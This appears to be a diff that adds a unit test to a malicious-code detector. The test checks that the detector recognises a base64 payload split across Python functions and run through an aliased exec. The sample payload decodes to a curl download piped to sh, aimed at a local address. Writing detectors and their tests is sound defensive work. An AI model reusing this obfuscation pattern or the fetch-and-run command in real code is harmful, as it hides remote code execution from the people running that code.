@@ -325,6 +325,23 @@ TEST(Signals, a_payload_xored_with_a_key_written_above_its_loop_is_decoded_execu
   EXPECT_EQ(js_facts.back().what, "xor");
 }
 
+TEST(Signals, a_base64_payload_cut_into_strings_joined_before_decoding_is_decoded_as_one) {
+  // code-helper's shape: each function returns a piece, exec is called by another name.
+  const std::string b = b64("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n");
+  const auto facts = py("import base64\n"
+                        "def one():\n    return \"" + b.substr(0, 31) + "\"\n"
+                        "def two():\n    return \"" + b.substr(31) + "\"\n"
+                        "def demo():\n"
+                        "    a=exec\n"
+                        "    a(base64.b64decode(one() + two()))\n");
+  auto has = [&](FactKind k, std::string_view what) {
+    return std::any_of(facts.begin(), facts.end(), [&](const Fact& f) { return f.kind == k && f.what == what; });
+  };
+  EXPECT_TRUE(has(FactKind::kDecodedExecuted, "base64")) << ::testing::PrintToString(facts);
+  EXPECT_TRUE(has(FactKind::kShell, "download-piped-to-shell")) << ::testing::PrintToString(facts);
+  for (const Fact& f : facts) EXPECT_EQ(f.line, 3u) << "at the first piece";
+}
+
 TEST(Signals, xoring_in_a_file_whose_strings_decode_to_no_code_is_no_fact) {
   // A checksum loop over text: the strings XOR to nothing that reads as code.
   EXPECT_TRUE(py("def crc(data, key='secret'):\n"
